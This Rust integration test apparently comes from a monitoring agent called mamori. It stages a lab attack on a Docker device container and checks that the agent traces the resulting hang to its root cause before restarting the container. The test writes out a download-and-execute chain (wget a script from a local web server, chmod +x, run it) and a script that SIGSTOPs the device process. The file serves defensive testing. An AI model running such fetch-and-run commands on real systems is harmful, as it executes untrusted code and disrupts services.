//! Root cause before a reset, end to end on a real Docker engine and a real auditd: a device
//! container with a shell (scripts/lab/build-device-image.sh --with-shell, run with `--init` so
//! the device is not PID 1) is watched by the agent's Thing monitor with `[audit]` following
//! the audit lab's log. An "attacker" serves a script from a web server on the host and runs it
//! in the container with `docker exec … wget … && chmod +x … && /tmp/x`; the script stops the
//! device (`kill -STOP`). The monitor must see the hang, analyse the container's recent audit
//! events before restarting it, and the incident must name the web server's socket as the entry,
//! the wget and the script in the chain, and the stopped device among what the entry touched.
//!
//! Needs dockerd and the audit lab (scripts/lab/setup-audit-lab.sh, as root: a private auditd
//! with mamori's rules writing ENRICHED records); runs when MAMORI_DOCKER_TESTS=1 and
//! MAMORI_AUDIT_LAB=1, reading MAMORI_AUDIT_LOG (default /var/lib/mamori-audit-lab/audit.log).
//! With MAMORI_TEST_SHOW=1 (and `--nocapture`) it prints the incident's root-cause JSON.

mod common;

use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::things::{actions, free_port, named, state, wait_for_port, Agent, Process};
use common::{docker, docker_tests_enabled, repo, TempDir};
use serde_json::Value;

const IMAGE: &str = "mamori-wot-device-shell";
const DEFAULT_LOG: &str = "/var/lib/mamori-audit-lab/audit.log";

/// The audit lab's log when the lab tests run; says why not when they do not.
fn audit_lab() -> Option<PathBuf> {
    if !docker_tests_enabled() {
        return None;
    }
    if std::env::var_os("MAMORI_AUDIT_LAB").is_none() {
        eprintln!(
            "skipped: set MAMORI_AUDIT_LAB=1 with the audit lab running \
             (scripts/lab/setup-audit-lab.sh, as root)"
        );
        return None;
    }
    let log = std::env::var_os("MAMORI_AUDIT_LOG")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(DEFAULT_LOG));
    assert!(
        log.exists(),
        "MAMORI_AUDIT_LAB is set but {} does not exist: run scripts/lab/setup-audit-lab.sh or set \
         MAMORI_AUDIT_LOG",
        log.display()
    );
    Some(log)
}

/// The device container, removed on drop.
struct Device {
    name: String,
    port: u16,
}

impl Drop for Device {
    fn drop(&mut self) {
        let _ = Command::new("docker")
            .args(["rm", "-f", &self.name])
            .output();
    }
}

/// The host pid of the container's process whose command name starts with `comm`.
fn host_pid(container: &str, comm: &str) -> Option<u32> {
    docker(&["top", container, "-eo", "pid,comm"])
        .lines()
        .skip(1)
        .find_map(|l| {
            let (pid, c) = l.trim().split_once(char::is_whitespace)?;
            c.trim().starts_with(comm).then(|| pid.parse().ok())?
        })
}

/// The chain's process steps as `argv` joined by spaces.
fn chain_commands(root_cause: &Value) -> Vec<String> {
    root_cause["chain"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|s| s["kind"] == "process")
        .map(|s| {
            s["argv"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(Value::as_str)
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect()
}

#[test]
fn a_hang_caused_through_docker_exec_is_traced_to_the_download_before_the_restart() {
    let Some(log) = audit_lab() else {
        return;
    };
    let began = Instant::now();
    let status = Command::new(repo().join("scripts/lab/build-device-image.sh"))
        .args(["--with-shell", IMAGE])
        .stdout(Stdio::null())
        .status()
        .expect("build-device-image.sh runs");
    assert!(status.success(), "building the device image failed");
    let init = docker(&["info", "--format", "{{.InitBinary}}"]);
    assert!(
        Command::new("sh")
            .args(["-c", &format!("command -v {init}")])
            .stdout(Stdio::null())
            .status()
            .is_ok_and(|s| s.success()),
        "dockerd's init binary `{init}` is missing: `docker run --init` needs it (docker-init, \
         from tini)"
    );

    let device = Device {
        name: "mamori-rc-device".into(),
        port: free_port(),
    };
    let _ = Command::new("docker")
        .args(["rm", "-f", &device.name])
        .output();
    let listen = format!("MAMORI_DEVICE_LISTEN=127.0.0.1:{}", device.port);
    let title = format!("MAMORI_DEVICE_TITLE={}", device.name);
    let label = format!(
        "mamori.thing=http://127.0.0.1:{}/.well-known/wot",
        device.port
    );
    docker(&[
        "run",
        "-d",
        "--init",
        "--name",
        &device.name,
        "--network",
        "host",
        "-e",
        &listen,
        "-e",
        &title,
        "--label",
        &label,
        IMAGE,
    ]);

    let agent = Agent::start(
        "things-audit",
        &format!(
            "[things]\ninterval_seconds = 1.0\ntimeout_seconds = 0.5\nrediscover_seconds = 2.0\n\
             [audit]\nlog = \"{}\"\n",
            log.display()
        ),
    );
    agent.wait_until(Duration::from_secs(40), "the device healthy", |t| {
        named(t, &device.name).is_some_and(|x| state(x) == "healthy")
    });
    // the log's content at start read: recent history is in memory
    agent.metrics_with("\nmamori_audit_caught_up 1\n");

    // the attacker's web server on the host, serving the script that stops the device
    let www = TempDir::new("things-audit-www");
    std::fs::write(
        www.0.join("x"),
        "#!/bin/sh\nkill -STOP $(pidof mamori-wot-device)\n",
    )
    .expect("script written");
    let web_port = free_port();
    let _server = Process(
        Command::new("/usr/bin/python3")
            .args(["-m", "http.server", "--bind", "127.0.0.1"])
            .arg(web_port.to_string())
            .arg("--directory")
            .arg(&www.0)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 -m http.server starts"),
    );
    wait_for_port(web_port, Duration::from_secs(10));
    let device_pid = host_pid(&device.name, "mamori-wot-dev").expect("the device's host pid");
    let attack =
        format!("wget -q -O /tmp/x http://127.0.0.1:{web_port}/x && chmod +x /tmp/x && /tmp/x");
    docker(&["exec", &device.name, "sh", "-c", &attack]);
    let stopped = std::fs::read_to_string(format!("/proc/{device_pid}/stat")).unwrap_or_default();
    assert!(
        stopped.contains(") T "),
        "the script stopped the device: {stopped}"
    );

    // the hang is seen, the evidence collected, the container restarted and healthy again
    agent.wait_until(
        Duration::from_secs(60),
        "the device restarted and healthy",
        |t| {
            named(t, &device.name)
                .is_some_and(|x| state(x) == "healthy" && x["restarts"].as_u64() >= Some(1))
        },
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    let incident = loop {
        let found = agent
            .records()
            .into_iter()
            .find(|r| r["record"] == "incident" && r["subject"]["name"] == device.name.as_str());
        match found {
            Some(i) => break i,
            None if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(200)),
            None => panic!("no incident record:\n{}", agent.log()),
        }
    };
    let actions = actions(&incident);
    let done = |a: &str| (a.to_string(), "succeeded".to_string());
    assert_eq!(
        actions,
        vec![done("collect-evidence"), done("restart"), done("verify")],
        "{incident}"
    );

    let rc = &incident["evidence"]["root_cause"];
    let text = serde_json::to_string_pretty(rc).unwrap_or_default();
    let summary = {
        let mut v = rc.clone();
        v["dot"] = Value::Null;
        v["container_processes"] = Value::Null;
        serde_json::to_string_pretty(&v).unwrap_or_default()
    };
    assert_eq!(rc["available"], true, "{summary}");
    // the entry: the web server's socket (loopback is spelled localhost by mamori-prov), the
    // input of the wget that ran in the container
    assert_eq!(
        rc["entry"]["label"],
        format!("localhost:{web_port}").as_str(),
        "{summary}"
    );
    assert_eq!(rc["entry"]["into_workload"], true, "{summary}");
    assert_eq!(rc["entry"]["into"]["argv"][0], "wget", "{summary}");
    // the chain: the wget, then the script (run by the shell docker exec started)
    let commands = chain_commands(rc);
    let wget = commands.iter().position(|c| c.starts_with("wget "));
    let script = commands
        .iter()
        .position(|c| c.contains("/tmp/x") && !c.starts_with("wget "));
    assert!(
        wget.is_some() && script.is_some() && wget < script,
        "chain {commands:?}\n{summary}"
    );
    // the stopped device is among what the entry touched
    let touched = rc["touched"]["items"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let hit = touched
        .iter()
        .find(|t| t["pid"] == device_pid)
        .unwrap_or_else(|| panic!("device {device_pid} not touched:\n{summary}"));
    assert_eq!(hit["op"], "kill", "{hit}");
    assert_eq!(hit["detail"], "SIGSTOP", "{hit}");
    assert!(
        touched
            .iter()
            .any(|t| t["kind"] == "file" && t["label"] == "/tmp/x"),
        "{summary}"
    );
    assert!(
        rc["detection_points"]
            .as_array()
            .is_some_and(|p| p.iter().any(|p| p["kind"] == "signalled")),
        "{summary}"
    );
    assert!(rc["dot"].as_str().is_some_and(|d| d.starts_with("digraph")));
    let elapsed = rc["elapsed_ms"].as_f64().unwrap_or(f64::MAX);
    assert!(
        elapsed < 1000.0,
        "the analysis took {elapsed} ms:\n{summary}"
    );
    assert!(rc["events"].as_u64() > Some(0));

    let metrics = agent.metrics_with("mamori_audit_analyses_total{outcome=\"traced\"} 1");
    let value = |name: &str| -> f64 {
        metrics
            .lines()
            .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.parse().ok())
            .unwrap_or_else(|| panic!("{name} missing:\n{metrics}"))
    };
    assert!(value("mamori_audit_events_total") > 0.0, "{metrics}");
    assert!(value("mamori_audit_events_retained") > 0.0, "{metrics}");
    assert_eq!(value("mamori_audit_analysis_duration_seconds_count"), 1.0);
    assert!(value("mamori_audit_last_graph_nodes") > 0.0, "{metrics}");
    eprintln!(
        "things_audit: {:.1} s; analysis {elapsed} ms (waited {} ms) on {} events, graph {} \
         nodes / {} edges; {} detection points; chain {commands:?}",
        began.elapsed().as_secs_f64(),
        rc["waited_ms"],
        rc["events"],
        rc["graph"]["nodes"],
        rc["graph"]["edges"],
        rc["detection_points_total"],
    );
    if std::env::var_os("MAMORI_TEST_SHOW").is_some() {
        eprintln!("{text}");
    }
}
